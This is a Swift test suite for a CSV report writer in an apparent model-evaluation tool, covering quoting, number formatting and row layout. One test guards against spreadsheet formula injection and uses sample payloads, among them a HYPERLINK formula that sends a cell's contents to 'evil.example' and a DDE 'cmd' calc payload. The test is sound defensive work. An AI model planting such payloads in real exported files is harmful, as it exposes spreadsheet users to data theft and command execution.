import ChatEvalCore
import ChatEvalReport
import ChatEvalStore
import ChatEvalTestKit
import Foundation
import Testing

/// The per-turn CSV: RFC 4180 quoting at its edges, numbers in plain decimal, and a document that
/// a strict reader (`StrictCSV`, written apart from the writer) parses back into one row per
/// measured turn with every answer intact.
@Suite struct CSVReportTests {
    @Test(arguments: [
        ("plain", "plain"), ("", ""), ("a,b", "\"a,b\""), ("say \"hi\"", "\"say \"\"hi\"\"\""), ("\"", "\"\"\"\""),
        ("two\nlines", "\"two\nlines\""), ("carriage\rreturn", "\"carriage\rreturn\""), ("crlf\r\nend", "\"crlf\r\nend\""),
        ("\r\n", "\"\r\n\""), ("naïve café — 東京 🙂", "naïve café — 東京 🙂"), (" spaces kept ", " spaces kept "),
    ])
    func aFieldIsQuotedExactlyWhenItMust(_ text: String, _ written: String) throws {
        #expect(CSV.field(text) == written)
        #expect(try StrictCSV.parse(CSV.record([text, "next"])) == [[text, "next"]], "reads back as it was")
    }

    @Test func numbersArePlainDecimalAndReadBackExactly() throws {
        let expected: [(Double?, String)] = [
            (0.000012, "0.000012"), (1e-7, "0.0000001"), (1.5e-7, "0.00000015"), (-2.5e-5, "-0.000025"), (0.5, "0.5"),
            (123.456, "123.456"), (2, "2"), (0, "0"), (1e16, "10000000000000000"), (1.25e17, "125000000000000000"),
            (nil, ""), (.nan, ""), (.infinity, ""),
        ]
        for (value, text) in expected { #expect(CSV.decimal(value) == text, "\(String(describing: value))") }
        var random = SeededRandom(seed: 3)
        for _ in 0..<2_000 {
            let value = exp(random.normal() * 12) * (random.uniform() < 0.5 ? -1 : 1)
            let text = CSV.decimal(value)
            #expect(!text.contains("e") && !text.contains("E") && !text.contains(","), "\(text)")
            #expect(Double(text) == value, "\(value) → \(text)")
        }
        #expect(CSV.integer(264_355_840) == "264355840" && CSV.integer(nil) == "")
    }

    /// The answers a model may give that a CSV writer gets wrong, a turn the runtime failed (no
    /// metrics), a skipped turn, a warm-up and a replay left out: one row per turn of the measured
    /// replays, each answer back as it was.
    @Test func oneRowPerMeasuredTurnParsesBack() throws {
        var record = ReportFixtures.run()
        let answers = [
            "Paris, France", "He said \"no\".", "line one\nline two", "windows\r\nline", "naïve — 東京 🙂", "",
        ]
        for (index, answer) in answers.enumerated() {
            record.suites[0].conversations[index / 3].turns[index % 3].replayed.answer = answer
        }
        var warmup = record.suites[0].conversations[0]
        warmup.warmup = true
        warmup.repetition = 0
        var leftOut = record.suites[0].conversations[1]
        leftOut.repetition = 2
        leftOut.leftOut = "other processes used 1.2 cores"
        record.suites[0].conversations += [warmup, leftOut]

        let rows = try StrictCSV.parse(CSVReport.render(runs: [record]))
        #expect(rows.first == CSVReport.columns)
        let body = Array(rows.dropFirst())
        let measured = record.suites.flatMap { $0.conversations.filter(\.isMeasured).flatMap(\.turns) }
        #expect(body.count == measured.count && body.count == 12, "2 suites × 2 measured replays × 3 turns")
        #expect(body.allSatisfy { $0.count == CSVReport.columns.count })
        func column(_ name: String, _ row: [String]) throws -> String {
            row[try #require(CSVReport.columns.firstIndex(of: name))]
        }
        #expect(try body.prefix(6).map { try column("answer", $0) } == answers)
        #expect(try body.allSatisfy { try column("repetition", $0) == "1" }, "the warm-up and the left-out replay are not listed")

        let first = body[0]
        let metrics = try #require(record.suites[0].conversations[0].turns[0].metrics)
        #expect(try column("run_id", first) == "run-1" && column("commit", first) == String(SyntheticRuns.commitID(42).prefix(7)))
        #expect(try column("model", first) == "synthetic.gguf" && column("suite", first) == "smoke")
        #expect(try column("conversation", first) == "conversation-1" && column("turn", first) == "1")
        #expect(try Double(column("time_to_first_token_s", first)) == metrics.timeToFirstToken)
        #expect(try Double(column("decode_tokens_per_s", first)) == metrics.decodeTokensPerSecond)
        #expect(try Double(column("inter_token_latency_p95_s", first)) == metrics.interTokenLatency?.p95)
        #expect(try column("prompt_tokens", first) == "40" && column("generated_tokens", first) == "24")
        #expect(try column("peak_memory_bytes", first) == String(300 << 20))
        #expect(try column("checks_passed", first) == "1" && column("checks_total", first) == "1")

        // The math suite's second replay: turn 2 failed in the runtime, turn 3 was skipped.
        let failed = body[10]
        #expect(try column("suite", failed) == "math" && column("turn", failed) == "2")
        #expect(try column("status", failed) == "failed" && column("failure_code", failed) == "context_overflow")
        for name in ["time_to_first_token_s", "decode_tokens_per_s", "total_time_s", "prompt_tokens", "peak_memory_bytes", "answer"] {
            #expect(try column(name, failed) == "", "\(name) is missing, so empty")
        }
        #expect(try column("status", body[11]) == "skipped" && column("failure_code", body[11]) == "")
    }

    /// Issue 28, finding 13: answers and ids that a spreadsheet runs as a formula (`=`, `+`, `-`,
    /// `@`, a tab or a carriage return first) were written as they were; each now starts with `'`,
    /// while a negative number in a numeric column stays a number.
    @Test func aCellASpreadsheetWouldRunAsAFormulaIsWrittenAsText() throws {
        var record = ReportFixtures.run()
        record.runId = "=1+2"
        record.runtime.model.path = "/models/-cmd"
        record.suites[0].name = "@SUM(A1:A9)"
        record.suites[0].conversations[0].id = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")"
        let answers = ["+1", "-cmd|' /C calc'!A0", "@SUM(1,2)", "\t=1+1", "\r=1+1", "1+1=2"]
        for (index, answer) in answers.enumerated() {
            record.suites[0].conversations[index / 3].turns[index % 3].replayed.answer = answer
        }
        record.suites[0].conversations[0].turns[0].replayed.metrics?.timeToFirstToken = -0.5

        let rows = try StrictCSV.parse(CSVReport.render(runs: [record])).dropFirst()
        func column(_ name: String, _ row: [String]) throws -> String {
            row[try #require(CSVReport.columns.firstIndex(of: name))]
        }
        let first = try #require(rows.first)
        #expect(try column("run_id", first) == "'=1+2" && column("model", first) == "'-cmd")
        #expect(try column("suite", first) == "'@SUM(A1:A9)")
        #expect(try column("conversation", first) == "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")")
        #expect(try rows.prefix(6).map { try column("answer", $0) } == answers.dropLast().map { "'" + $0 } + ["1+1=2"])
        #expect(try column("time_to_first_token_s", first) == "-0.5", "a number stays a number")
    }

    /// Models side by side: each run's rows, named by its group's label.
    @Test func runsSideBySideAreEachListedByTheirLabel() throws {
        var first = ReportFixtures.run(model: "a.gguf", seed: 1)
        var second = ReportFixtures.run(model: "b.gguf", seed: 2)
        first.group = RunGroup(id: "g", index: 1, count: 2, label: "a (ctx 2048)")
        second.group = RunGroup(id: "g", index: 2, count: 2, label: "b (ctx 4096)")
        let rows = try StrictCSV.parse(CSVReport.render(runs: [first, second])).dropFirst()
        #expect(rows.count == 24)
        #expect(Set(rows.map { $0[2] }) == ["a (ctx 2048)", "b (ctx 4096)"])
        #expect(rows.first?[0] == "run-1" && rows.last?[0] == "run-2")
    }
}
